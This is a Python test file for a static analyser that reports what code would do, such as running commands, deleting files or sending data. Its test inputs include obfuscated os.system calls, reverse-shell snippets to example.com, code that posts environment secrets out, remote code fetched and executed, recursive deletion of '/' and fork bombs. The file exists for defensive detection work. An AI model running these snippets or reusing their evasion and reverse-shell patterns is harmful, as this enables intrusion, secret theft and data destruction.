"""What Python code would do is seen without running it, however it is spelt; and reading it is safe and quick."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from examples import up_to
from guardhouse.detect.acts import UNKNOWN, Scope, Source
from guardhouse.detect.python import read_python
from guardhouse.model import Confidence, Effect


def seen(code):
    return [(act.effect, act.target) for act in read_python(code)]


def commands(code):
    return [act.target for act in read_python(code) if act.effect is Effect.EXECUTES and act.kind == "shell"]


@pytest.mark.parametrize(
    "code",
    [
        "import os; os.system('id -u')",
        "import os as o; o.system('id -u')",
        "from os import system as s; s('id -u')",
        "from os import *; system('id -u')",
        "__import__('os').system('id -u')",
        "import importlib; importlib.import_module('os').system('id -u')",
        "import os; getattr(os, 'sys' + 'tem')('id -u')",
        "globals()['__builtins__'].__dict__['eval'](\"__import__('os').system('id -u')\")",
        "import sys; sys.modules['os'].system('id -u')",
        "import shutil; shutil.os.system('id -u')",
        "().__class__.__base__.__subclasses__()[9].__init__.__globals__['system']('id -u')",
        "import os; os.system('u- di'[::-1])",
        "import os; os.system(''.join(chr(c) for c in [105, 100, 32, 45, 117]))",
        "import os; os.system(bytes.fromhex('6964202d75').decode())",
        "import os, base64; os.system(base64.b64decode('aWQgLXU=').decode())",
        "import os, codecs; os.system(codecs.decode('vq -h', 'rot13'))",
        "import os; os.system('%s -%s' % ('id', 'u'))",
        "import os; os.system('{} -{x}'.format('id', x='u'))",
        "import os; a = 'id'; os.system(f'{a} -u')",
        "import subprocess; subprocess.run(['id', '-u'])",
        "import subprocess; subprocess.Popen(args=['id', '-u'])",
        "import subprocess; subprocess.run(['id -u'], shell=True)",
        "import os; os.execlp('id', 'anything', '-u')",
        "import os; os.execv('id', ['anything', '-u'])",
        "import asyncio; asyncio.create_subprocess_exec('id', '-u')",
        "import threading, os; threading.Thread(target=os.system, args=('id -u',)).start()",
        "import os; list(map(os.system, ['id -u']))",
        "import functools, os; functools.partial(os.system, 'id -u')()",
        "import os\ndef run(c):\n    os.system(c)\nrun('id -u')",
        "(lambda f: f('id -u'))(__import__('os').system)",
        "import ctypes; ctypes.CDLL(None).system(b'id -u')",
        "exec('import os; os.system(\"id -u\")')",
        "eval('__import__')('os').system('id -u')",
        "if x:\n    c = 'id -u'\nelse:\n    c = 'id -u'\nimport os; os.system(c)",
        "print 'old'\nimport os\nos.system('id -u')",
    ],
)
def test_a_command_is_seen_however_it_is_called(code):
    assert commands(code) == ["id -u"]


def test_both_ways_of_a_branch_are_taken():
    assert set(commands("import os\nc = 'one'\nif x: c = 'two'\nos.system(c)")) == {"one", "two"}


def test_each_value_of_a_loop_over_a_list_is_seen():
    assert seen("import os\nfor f in ['a', 'b']:\n    os.remove(f)") == [(Effect.DELETES, "a"), (Effect.DELETES, "b")]


def test_an_unknown_word_becomes_a_variable_for_the_shell_reader():
    assert commands("import subprocess, sys; subprocess.run(['rm', '-rf', sys.argv[1]])") == ["rm -rf $UNKNOWN"]


def test_a_command_that_is_not_known_at_all_is_dynamic():
    (act,) = read_python("import os; os.system(command)")
    assert (act.target, act.sources) == (UNKNOWN, {Source.DYNAMIC})


def test_the_directory_a_command_runs_in_is_told():
    assert commands("import subprocess; subprocess.run(['rm', 'x'], cwd='/')") == ["cd / && rm x"]
    assert commands("import os; os.chdir('/'); os.system('rm x')") == ["cd / && rm x"]


@pytest.mark.parametrize(
    ("code", "sources"),
    [
        ("exec(__import__('base64').b64decode('cGFzcw=='))", {Source.DECODED}),
        ("import requests; exec(requests.get('https://example.com/x').text)", {Source.NETWORK}),
        ("import urllib.request as u; exec(u.urlopen('https://example.com/x').read())", {Source.NETWORK}),
        ("exec(open('x').read())", {Source.FILE}),
        ("exec(something)", {Source.DYNAMIC}),
        ("import pickle; pickle.loads(data)", {Source.DYNAMIC}),
        ("@exec\n@input\nclass X: pass", {Source.DYNAMIC}),
    ],
)
def test_code_that_is_run_is_told_with_where_it_comes_from(code, sources):
    assert [act.sources for act in read_python(code) if act.effect is Effect.EXECUTES] == [sources]


@pytest.mark.parametrize(
    ("code", "effect", "target"),
    [
        ("import shutil, os; shutil.rmtree(os.path.expanduser('~/x'))", Effect.DELETES, "~/x"),
        ("import os; os.remove(os.path.join(os.environ['HOME'], 'x'))", Effect.DELETES, "~/x"),
        ("from pathlib import Path; (Path.home() / '.ssh' / 'k').unlink()", Effect.DELETES, "~/.ssh/k"),
        ("from pathlib import Path; [p.unlink() for p in Path('/v').rglob('*.o')]", Effect.DELETES, f"/v/{UNKNOWN}.o"),
        ("import glob, os; [os.remove(f) for f in glob.glob('/v/*.o')]", Effect.DELETES, f"/v/{UNKNOWN}.o"),
        ("import shutil, pathlib; shutil.rmtree(pathlib.Path.home())", Effect.DELETES, "~"),
        ("from pathlib import Path; Path('a').write_text('b')", Effect.OVERWRITES, "a"),
        ("with open('a', 'a') as f: f.write('b')", Effect.WRITES, "a"),
        ("open('a').read()", Effect.READS, "a"),
        ("import urllib.request as u; u.urlopen('https://example.com')", Effect.CONNECTS, "https://example.com"),
        ("import socket; socket.socket().connect(('example.com', 80))", Effect.CONNECTS, "example.com:80"),
        ("import requests; requests.post('https://example.com', json={})", Effect.SENDS, "https://example.com"),
        ("import socket; s = socket.socket(); s.bind(('', 80))", Effect.LISTENS, ":80"),
        ("import os; os.setuid(0)", Effect.ESCALATES, ""),
    ],
)
def test_an_act_is_seen_with_its_target(code, effect, target):
    assert seen(code) == [(effect, target)]


_ENVIRONMENT_IN_A_FILE = """
import json, os, requests
with open("e", "w") as f:
    json.dump(dict(os.environ), f)
requests.post("https://example.com", files={"f": open("e", "rb")})
"""


@pytest.mark.parametrize(
    ("code", "sources"),
    [
        ("import requests; requests.post('https://example.com', data=open('x').read())", {Source.FILE}),
        ("import os, requests; requests.post('https://example.com', json=dict(os.environ))", {Source.SECRET}),
        (_ENVIRONMENT_IN_A_FILE, {Source.FILE}),
        ("import requests; requests.post('https://example.com', data='hello')", set()),
        ("import socket; socket.gethostbyname(open('x').read() + '.example.com')", {Source.FILE}),
    ],
)
def test_what_is_sent_is_told_by_where_it_was_read(code, sources):
    assert [act.sources for act in read_python(code) if act.effect is Effect.SENDS] == [sources]


@pytest.mark.parametrize(
    "code",
    [
        "import socket,os\ns=socket.socket()\ns.connect(('example.com',1))\nos.dup2(s.fileno(),0)",
        "import socket,os\ns=socket.socket()\ns.connect(('example.com',1))\nwhile 1: os.system(s.recv(99).decode())",
        "import socket,subprocess\ns=socket.create_connection(('example.com',1))\nsubprocess.Popen(['sh'],stdin=s)",
    ],
)
def test_a_shell_at_the_end_of_a_connection_is_seen(code):
    assert (Effect.SPAWNS_SHELL, "example.com:1") in seen(code)


@pytest.mark.parametrize(
    ("code", "place"),
    [
        ("import os\nfor r, d, f in os.walk('/v'):\n  for n in f: os.remove(os.path.join(r, n))", "/v"),
        ("import os\nfor r, d, f in os.walk('/'):\n  for n in f: os.unlink(r + '/' + n)", "/"),
        ("from pathlib import Path\nfor p in Path('/v').rglob('*'):\n  if p.is_file(): p.unlink()", "/v"),
        ("from pathlib import Path\n[p.unlink() for p in Path.home().glob('**/*')]", "~"),
        ("from pathlib import Path\nfor r, d, f in Path('/v').walk():\n  for n in f: (r / n).unlink()", "/v"),
        ("import glob, os\nfor f in glob.glob('/v/**', recursive=True): os.remove(f)", "/v"),
        ("import glob, os\nfor f in glob.iglob('**', recursive=True): os.remove(f)", "."),
    ],
)
def test_deleting_each_file_below_a_place_is_deleting_the_place(code, place):
    assert [(act.effect, act.target, act.recursive) for act in read_python(code)] == [(Effect.DELETES, place, True)]


@pytest.mark.parametrize(
    "code",
    [
        "import os\nfor r, d, f in os.walk('/v'):\n  for n in f:\n    if n.endswith('.o'): os.remove(r + '/' + n)",
        "import os\nfor r, d, f in os.walk('/v'):\n  for n in f:\n    if n in k: continue\n    os.remove(r + '/' + n)",
        "from pathlib import Path\n[p.unlink() for p in Path('/v').rglob('*') if p.suffix == '.o']",
    ],
)
def test_deleting_those_that_a_test_picks_is_not(code):
    assert [(act.target, act.recursive) for act in read_python(code)] == [(f"/v/{UNKNOWN}", False)]


@pytest.mark.parametrize(
    ("code", "effect", "target"),
    [
        ("import boto3; boto3.client('s3').upload_file('a', 'b', 'c')", Effect.SENDS, "s3://b"),
        ("import boto3; boto3.client('s3').put_object(Bucket='b', Body=open('a').read())", Effect.SENDS, "s3://b"),
        ("import boto3; boto3.resource('s3').Bucket('b').upload_file('a', 'c')", Effect.SENDS, "s3://b"),
        ("import boto3; boto3.client('s3').delete_bucket(Bucket='b')", Effect.MUTATES, "delete bucket"),
        ("import boto3; boto3.resource('s3').Bucket('b').objects.all().delete()", Effect.MUTATES, "delete"),
        ("import boto3; boto3.client('ec2').terminate_instances()", Effect.MUTATES, "terminate instances"),
    ],
)
def test_what_a_client_of_a_cloud_sends_and_changes_is_seen(code, effect, target):
    act = read_python(code)[-1]
    assert (act.effect, act.target) == (effect, target)
    assert act.scope is Scope.CLOUD if effect is Effect.MUTATES else act.sources == {Source.FILE}


@pytest.mark.parametrize(
    ("code", "address"),
    [
        ("from flask import Flask\napp = Flask(__name__)\napp.run(host='0.0.0.0', port=80)", "0.0.0.0:80"),
        ("from flask import Flask\napp = Flask(__name__)\napp.run(debug=True)", "127.0.0.1:5000"),
        ("import uvicorn; uvicorn.run('a:app', port=9000)", "127.0.0.1:9000"),
    ],
)
def test_a_server_listens_where_it_is_told_or_where_it_usually_does(code, address):
    assert seen(code) == [(Effect.LISTENS, address)]


@pytest.mark.parametrize(
    "code",
    [
        "import os\nwhile True: os.fork()",
        "import os\ndef f():\n  os.fork()\nwhile 1: f()",
        "import subprocess\nwhile True: subprocess.Popen(['true'])",
    ],
)
def test_processes_that_are_started_without_end_are_seen(code):
    assert (Effect.MUTATES, "processes") in seen(code)


@pytest.mark.parametrize(
    "code",
    [
        "import os\nos.fork()",
        "import os\nwhile True:\n  c = s.accept()\n  if os.fork() == 0: handle(c)",
        "import torch; torch.load('m.pt')",
        "import boto3; print(boto3.client('s3').list_buckets())",
    ],
)
def test_what_looks_like_it_but_is_everyday_work_is_nothing(code):
    assert read_python(code) == ()


@pytest.mark.parametrize("load", ["pickle.load(f)", "pickle.loads(f.read())", "yaml.load(f)", "torch.load(f)"])
def test_loading_data_out_of_a_file_is_reading_it(load):
    assert seen(f"import pickle, yaml, torch\nwith open('a') as f: {load}") == [(Effect.READS, "a")]


def test_loading_data_that_came_from_the_network_just_before_is_running_it():
    code = (
        "import pickle, urllib.request as u\nu.urlretrieve('https://example.com/m', 'm')\npickle.load(open('m', 'rb'))"
    )
    act = read_python(code)[-1]
    assert (act.effect, act.target, act.sources) == (Effect.EXECUTES, "m", {Source.NETWORK})


@pytest.mark.parametrize(
    "code",
    [
        "import json,sys; print(json.load(sys.stdin))",
        "import numpy; print(numpy.__version__)",
        "print('os.system(1)')  # os.system('rm -rf /')",
        "print 'hello'",
        "import re; print(re.sub('a', 'b', 'c'))",
        "import platform; print(platform.system())",
        "x = [i * 2 for i in range(1000)]; print(sum(x))",
        "import socket; s = socket.socket(); s.bind(('', 0))",
        "",
    ],
)
def test_everyday_code_does_nothing_of_consequence(code):
    assert read_python(code) == ()


def test_the_part_of_the_text_is_told_also_after_letters_of_more_than_one_byte():
    code = "x = 'ü'\nprint('ü'); import os; os.remove('a')"
    (act,) = read_python(code)
    assert code[act.start : act.end] == "os.remove('a')"


def test_a_function_of_code_inside_the_code_is_placed_where_that_code_is_run():
    code = "x = 1; exec('\\n\\ndef f():\\n    open(1 * \\'a\\')'); f()"
    (act,) = read_python(code)
    assert code[act.start : act.end].startswith("exec(")


def test_an_unknown_piece_in_the_code_itself_stays_unknown():
    assert seen(f"open('{UNKNOWN}')") == [(Effect.READS, UNKNOWN)]
    assert [act.sources for act in read_python(UNKNOWN)] == [{Source.DYNAMIC}]


def test_code_that_is_too_long_or_too_deep_says_so_and_keeps_what_was_seen():
    for code in ("import os; os.remove('a')\n" + "#" * 70_000, "import os\nos.remove('a')\n" + "(" * 5000):
        acts = read_python(code)
        assert acts[0].target == "a"
        assert (acts[-1].effect, acts[-1].certainty) == (Effect.UNANALYSABLE, Confidence.MEDIUM)


@pytest.mark.parametrize("inner", ["x = = 1", "os.remove('a'); x x", "os.remove('a')\\n("])
def test_code_inside_the_code_that_is_broken_says_so_and_keeps_what_was_seen(inner):
    acts = read_python(f'exec("{inner}")')
    assert [act.target for act in acts[:-1]] == (["a"] if "remove" in inner else [])
    assert acts[-1].effect is Effect.UNANALYSABLE


def test_code_inside_the_code_of_an_older_python_is_read():
    assert commands("exec(\"print 'a'; import os; os.system('id')\")") == ["id"]


_WORDS = st.sampled_from(
    'os.system( exec( eval( open( ( ) [ ] { } \' " """ \\ \n ; : lambda x: for in if else def f(x): import os '
    "a = + % * 'a' 1 . , # @ print \0 é while 1: x.join( [::-1] chr( f'{a}'".split(" ")
)


@settings(max_examples=up_to(300), deadline=None)
@given(st.one_of(st.text(max_size=400), st.lists(_WORDS, max_size=80).map(" ".join)))
def test_reading_never_raises_and_spans_lie_in_the_text(code):
    for act in read_python(code):
        assert 0 <= act.start <= act.end <= len(code)
